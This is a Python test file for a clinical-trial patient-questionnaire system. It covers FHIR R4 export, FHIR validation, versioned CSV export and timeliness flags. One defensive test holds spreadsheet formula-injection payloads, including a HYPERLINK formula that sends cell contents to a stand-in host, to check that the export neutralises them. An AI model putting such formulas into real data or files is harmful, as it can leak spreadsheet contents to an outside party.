"""FHIR R4 export validated by fhir.resources; CSV keeps every version; timeliness flags."""

from __future__ import annotations

import uuid
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from epro.api.staff import csv_rows, spreadsheet_safe
from epro.domain import fhir
from epro.domain.definitions import shipped
from epro.domain.responses import ResponseVersion, Scores
from epro.domain.submissions import timeliness
from fhir.resources.R4B.questionnaireresponse import QuestionnaireResponse
from pydantic import ValidationError

Q = {q.id: q for q in shipped() if q.version == 1}  # the first published versions
T = datetime(2026, 3, 8, 20, tzinfo=UTC)


def row(version: int = 1, scores: Scores | None = None, **answers: Any) -> ResponseVersion:
    return ResponseVersion(
        response_id=uuid.UUID(int=7),
        version=version,
        participant_id="P-1",
        questionnaire_id="daily-diary",
        questionnaire_version=1,
        occurrence_id=None,
        language="de",
        authored_at=T,
        received_at=T,
        answers=answers,
        scores=scores or {},
        on_time=True,
        flags=["unscheduled"],
        author="participant",
        reason=None if version == 1 else "typo",
    )


@pytest.mark.parametrize("qid", sorted(Q))
def test_every_shipped_questionnaire_exports_as_a_valid_fhir_questionnaire(qid: str) -> None:
    resource = fhir.questionnaire(Q[qid])
    assert resource["resourceType"] == "Questionnaire"
    assert [i["linkId"] for i in resource["item"]] == [i.link_id for i in Q[qid].items]


def test_fhir_questionnaire_keeps_branching_ranges_and_translations() -> None:
    items = {i["linkId"]: i for i in fhir.questionnaire(Q["phq-9"])["item"]}
    assert items["phq9-10"]["enableBehavior"] == "any"
    assert items["phq9-10"]["enableWhen"][0] == {
        "question": "phq9-1",
        "operator": "!=",
        "answerCoding": {"system": "urn:trialstream:questionnaire:phq-9", "code": "0"},
    }
    translation = items["phq9-9"]["_text"]["extension"][0]
    assert translation["url"] == fhir.TRANSLATION
    assert {"url": "lang", "valueCode": "de"} in translation["extension"]
    pain = fhir.questionnaire(Q["pain-nrs"])["item"][0]
    assert [e["valueInteger"] for e in pain["extension"]] == [0, 10]


def test_a_correction_exports_as_an_amended_response_with_typed_answers() -> None:
    answers = {"wellbeing": 4, "new-symptoms": True, "symptoms": ["rash", "other"],
               "symptoms-other": "itch", "symptom-start": "2026-03-07", "took-medication": False}  # fmt: skip
    resource = fhir.questionnaire_response(Q["daily-diary"], row(2, **answers))
    assert resource["status"] == "amended"
    assert resource["questionnaire"] == "urn:trialstream:questionnaire:daily-diary|1"
    by_link = {i["linkId"]: i["answer"] for i in resource["item"]}
    assert by_link["wellbeing"] == [{"valueInteger": 4}]
    assert [a["valueCoding"]["code"] for a in by_link["symptoms"]] == ["rash", "other"]
    assert by_link["symptom-start"] == [{"valueDate": "2026-03-07"}]
    assert by_link["took-medication"] == [{"valueBoolean": False}]
    bundle = fhir.bundle([resource])
    assert bundle["entry"][0]["resource"]["id"] == f"{uuid.UUID(int=7)}-v2"


@pytest.mark.parametrize(
    "broken",
    [
        {},  # status is required
        {"status": "completed", "item": [{"answer": [{"valueInteger": 1}]}]},  # linkId required
        {"status": "completed", "item": [{"linkId": "a", "answer": [{"valueInteger": "x"}]}]},
        {
            "status": "completed",
            "item": [{"linkId": "a", "answer": [{"valueInteger": 1, "valueBoolean": True}]}],
        },
        {"status": "completed", "authored": "yesterday"},
    ],
)
def test_the_fhir_library_really_rejects_structurally_invalid_resources(
    broken: dict[str, Any],
) -> None:
    # It checks structure, cardinality and types; code bindings (status values) it does not.
    with pytest.raises(ValidationError):
        QuestionnaireResponse.model_validate({"resourceType": "QuestionnaireResponse", **broken})


def test_csv_is_one_row_per_answer_and_score_of_every_version() -> None:
    first = row(1, scores={"wellbeing_score": {"value": 4, "band": None}}, wellbeing=4)
    second = row(2, wellbeing=6)
    rows = csv_rows([first, second])
    assert [(r["version"], r["current"], r["item"], r["value"], r["reason"]) for r in rows] == [
        (1, False, "wellbeing", 4, None),
        (1, False, "score:wellbeing_score", 4, None),
        (2, True, "wellbeing", 6, "typo"),
    ]


def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_kept_as_text() -> None:
    hostile = row(
        2,
        **{"symptoms-other": '=HYPERLINK("http://x.test/?"&A1,"open")', "wellbeing": -3},
    )
    hostile = replace(hostile, reason="@SUM(A1:A9)", author="+staff")
    rows = {r["item"]: r for r in csv_rows([hostile])}
    assert rows["symptoms-other"]["value"] == '\'=HYPERLINK("http://x.test/?"&A1,"open")'
    assert rows["wellbeing"]["value"] == -3  # a number stays a number
    assert rows["wellbeing"]["reason"] == "'@SUM(A1:A9)"
    assert rows["wellbeing"]["author"] == "'+staff"
    assert spreadsheet_safe("-12.5") == "-12.5"
    assert spreadsheet_safe("\tcmd") == "'\tcmd"
    assert spreadsheet_safe("plain text") == "plain text"


def test_timeliness_flags_late_and_out_of_window_but_accepts_them() -> None:
    due, expires = T, T + timedelta(hours=4)
    assert timeliness(T + timedelta(hours=1), due, expires) == (True, [])
    assert timeliness(expires, due, expires) == (True, [])
    assert timeliness(expires + timedelta(seconds=1), due, expires) == (False, ["late"])
    assert timeliness(due - timedelta(minutes=5), due, expires) == (False, ["out_of_window"])
    assert timeliness(T, None, None) == (True, ["unscheduled"])
